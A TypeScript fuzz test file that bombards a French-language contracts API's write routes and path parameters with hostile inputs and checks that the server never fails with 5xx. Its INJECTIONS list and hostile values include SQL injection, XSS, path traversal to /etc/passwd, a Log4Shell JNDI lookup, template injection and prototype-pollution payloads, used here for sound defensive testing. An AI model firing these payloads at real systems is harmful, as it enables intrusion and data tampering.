import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ClientHttp, Reponse } from '../harness';
import { preparerBanc, SUJETS, type Banc, type NomSujet } from './monde';
import { cheminPar, ROUTES, type EntreeRoute, type Outils } from './routes';

/**
 * Hostile input on every write route, property-based: wrong types, huge strings, odd unicode, injection attempts,
 * missing and unknown fields, whole bodies of noise. The server must never answer 5xx; a refusal is always
 * problem+json, and a 400 for a body that differs from a valid one by one field names that field.
 */

let banc: Banc;
let compteur = 0;
const unique = () => `f${Date.now().toString(36)}${(compteur++).toString(36)}`;
beforeAll(async () => {
  banc = await preparerBanc();
}, 180_000);
afterAll(() => banc?.serveur.fermer());

const INJECTIONS = [
  "' OR 1=1 --",
  "'; drop table contrats; --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../etc/passwd',
  '\u0000',
  '${jndi:ldap://exemple.fr/a}',
  '{{7*7}}',
  '\u202Eélu\u202C',
  'Z̷̢̛a̴l̸g̵o̶',
  '🏥'.repeat(2000),
  'a'.repeat(200_000),
  '\uD800',
  '1e309',
  '0x1F',
  ' ',
];

/** A value that is wrong for most fields, or dangerous in a right-looking type. */
const hostile = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.constantFrom(null, true, false, 0, -1, 1e308, -1e308, 2 ** 53 + 1, 0.1, [], {}, [null], { $gt: '' }, { __proto__: { admin: true } }),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.integer(),
  fc.double(),
  fc.array(fc.jsonValue(), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 10 }), fc.jsonValue(), { maxKeys: 5 }),
);

type Mutation =
  | { mode: 'champ'; cle: string; valeur: unknown }
  | { mode: 'absent'; cle: string }
  | { mode: 'inconnu'; valeur: unknown }
  | { mode: 'corps'; valeur: unknown };

function appliquer(base: Record<string, unknown>, m: Mutation): unknown {
  switch (m.mode) {
    case 'champ':
      return { ...base, [m.cle]: m.valeur };
    case 'absent': {
      const { [m.cle]: _retire, ...reste } = base;
      return reste;
    }
    case 'inconnu':
      return { ...base, ['champInconnu' + unique()]: m.valeur };
    case 'corps':
      return m.valeur;
  }
}

/**
 * The first subject the rules let do it, on the own contract or, for a route only a published contract opens (an
 * inhabitant's opinion), on the published one: the fuzzer must get past the permission check.
 */
async function acteur(entree: EntreeRoute): Promise<{ nom: NomSujet; cas: 'propre' | 'publie' }> {
  for (const cas of ['propre', 'publie'] as const) {
    const fixture = banc.monde.contrats[cas];
    for (const nom of SUJETS) {
      const evaluation = (sujet: (typeof banc.sujets)[NomSujet] | null) => ({
        sujet,
        cas: entree.portee === 'contrat' ? cas : null,
        monde: banc.monde,
        fixture: entree.portee === 'contrat' ? fixture : null,
        serveur: banc.serveur,
      });
      if (nom === 'anonyme' && entree.attendu !== undefined && !(await entree.attendu(evaluation(null)))) continue;
      if (await entree.attendu(evaluation(banc.sujets[nom]))) return { nom, cas };
    }
    if (entree.portee !== 'contrat') break;
  }
  throw new Error('Aucun acteur permis');
}

function verifier(route: string, reponse: Reponse, mutation: Mutation | null) {
  const lisible = `${route} ${JSON.stringify(mutation).slice(0, 200)} → ${reponse.status} ${JSON.stringify(reponse.body).slice(0, 300)}`;
  expect(reponse.status, lisible).toBeLessThan(500);
  if (reponse.status >= 400) {
    expect(reponse.headers.get('content-type'), lisible).toContain('application/problem+json');
    expect(typeof reponse.body?.detail, lisible).toBe('string');
  }
  // A body carrying « __proto__ » or « constructor » keys is refused whole by the JSON parser (prototype poisoning).
  const refuseEntier = reponse.body?.title === 'Requête invalide';
  if (reponse.status === 400 && mutation && mutation.mode !== 'corps' && !refuseEntier) {
    const erreurs: { champ: string; message: string }[] = reponse.body.erreurs ?? [];
    expect(erreurs.length, `400 sans champ nommé : ${lisible}`).toBeGreaterThan(0);
    // Schema errors must point at the field that was broken; a business rule may still refuse another field.
    if ((mutation.mode === 'champ' || mutation.mode === 'absent') && String(reponse.body.detail).startsWith('Données invalides ('))
      expect(
        erreurs.some((e) => e.champ === mutation.cle || e.champ.startsWith(`${mutation.cle}.`) || e.champ === '(racine)'),
        `le 400 ne nomme pas « ${mutation.cle} » : ${lisible}`,
      ).toBe(true);
  }
}

describe('entrées hostiles', () => {
  it('aucune route d’écriture ne répond 5xx, et chaque refus est un problem+json qui nomme le champ', async () => {
    const ecritures = banc.serveur.routesApi.filter(
      (r) => (r.methode === 'POST' || r.methode === 'PUT') && ROUTES[`${r.methode} ${r.url}`],
    );
    let essais = 0;
    for (const route of ecritures) {
      const nom = `${route.methode} ${route.url}`;
      const entree = ROUTES[nom];
      if (entree.reserveA) continue;
      // A route with a target of its own (appui) is judged on it: the target first, then who may act on it.
      const avant = entree.victime ? null : await acteur(entree);
      const fixture = entree.portee === 'contrat' ? banc.monde.contrats[avant?.cas ?? 'propre'] : null;
      const outils: Outils = { serveur: banc.serveur, admin: banc.clients.admin, monde: banc.monde, unique };
      // The target first: who may act can depend on it (a fresh appui case or request, appui-regles.ts).
      const chemin = entree.victime
        ? await entree.victime(outils, fixture, null)
        : entree.chemin
          ? entree.chemin(banc.monde, fixture)
          : cheminPar(route.url, banc.monde, fixture);
      const client: ClientHttp = banc.clients[(avant ?? (await acteur(entree))).nom];
      if (entree.multipart) {
        // Uploads and imports: any bytes under any name.
        await fc.assert(
          fc.asyncProperty(
            fc.uint8Array({ maxLength: 4096 }),
            fc.constantFrom(...INJECTIONS.slice(0, 10), 'données.csv', 'a.xlsx', 'b.geojson', 'c.pdf'),
            async (octets, fichier) => {
              essais++;
              verifier(
                nom,
                await client.multipart(chemin, { fichier: { nom: fichier.slice(0, 200), contenu: Buffer.from(octets) }, options: fichier }),
                null,
              );
            },
          ),
          { numRuns: 15 },
        );
        continue;
      }
      const base = (entree.corps ? await entree.corps(outils, fixture) : {}) as Record<string, unknown>;
      const cles = Object.keys(base ?? {});
      const mutation: fc.Arbitrary<Mutation> = fc.oneof(
        ...(cles.length
          ? [
              fc.record({ mode: fc.constant('champ' as const), cle: fc.constantFrom(...cles), valeur: hostile }),
              fc.record({ mode: fc.constant('absent' as const), cle: fc.constantFrom(...cles) }),
            ]
          : []),
        fc.record({ mode: fc.constant('inconnu' as const), valeur: hostile }),
        fc.record({ mode: fc.constant('corps' as const), valeur: fc.oneof(hostile, fc.jsonValue()) }),
      );
      await fc.assert(
        fc.asyncProperty(mutation, async (m) => {
          essais++;
          const corps = appliquer(base ?? {}, m);
          verifier(nom, route.methode === 'PUT' ? await client.put(chemin, corps) : await client.post(chemin, corps), m);
        }),
        { numRuns: 25 },
      );
    }
    expect(essais).toBeGreaterThan(1500);
  }, 900_000);

  it('un identifiant hostile dans le chemin reçoit 400 ou 404, jamais 5xx', async () => {
    const avecParametre = banc.serveur.routesApi.filter((r) => r.url.includes('/:'));
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...avecParametre), // Past the HTTP layer's limit (16 KB of headers) Node itself answers 431: paths stay under it.
        fc.oneof(fc.constantFrom(...INJECTIONS.slice(0, 10)), fc.string({ unit: 'binary', minLength: 1, maxLength: 100 })),
        async (route, valeur) => {
          const chemin = route.url.replace(/:([A-Za-z]+)/g, () => encodeURIComponent(valeur));
          const client = banc.clients.admin;
          const reponse =
            route.methode === 'GET'
              ? await client.get(chemin)
              : route.methode === 'DELETE'
                ? await client.delete(chemin)
                : route.methode === 'PUT'
                  ? await client.put(chemin, {})
                  : await client.post(chemin, {});
          const lisible = `${route.methode} ${chemin.slice(0, 200)} → ${reponse.status} ${JSON.stringify(reponse.body).slice(0, 200)}`;
          expect(reponse.status, lisible).toBeLessThan(500);
          expect(reponse.status, lisible).toBeGreaterThanOrEqual(400);
          expect(reponse.headers.get('content-type') ?? '', lisible).toMatch(/application\/problem\+json|text\/calendar/);
        },
      ),
      { numRuns: 400 },
    );
  }, 300_000);
});
